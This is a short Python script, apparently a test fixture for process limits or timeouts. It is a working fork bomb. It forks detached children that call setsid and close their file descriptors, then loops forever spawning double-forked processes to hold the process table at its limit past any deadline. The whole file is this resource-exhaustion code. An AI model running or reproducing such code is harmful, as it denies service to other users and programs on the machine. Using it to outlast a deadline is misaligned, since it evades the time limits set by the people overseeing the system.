"""Keeps the number of processes at its limit with children that nobody has asked for, past its deadline."""

import os

for _ in range(8):
    try:
        if os.fork() == 0:
            os.setsid()
            os.closerange(0, 1024)
    except OSError:
        pass
while True:
    try:
        if os.fork() == 0:
            if os.fork() == 0:
                os._exit(0)
            os._exit(0)
    except OSError:
        pass
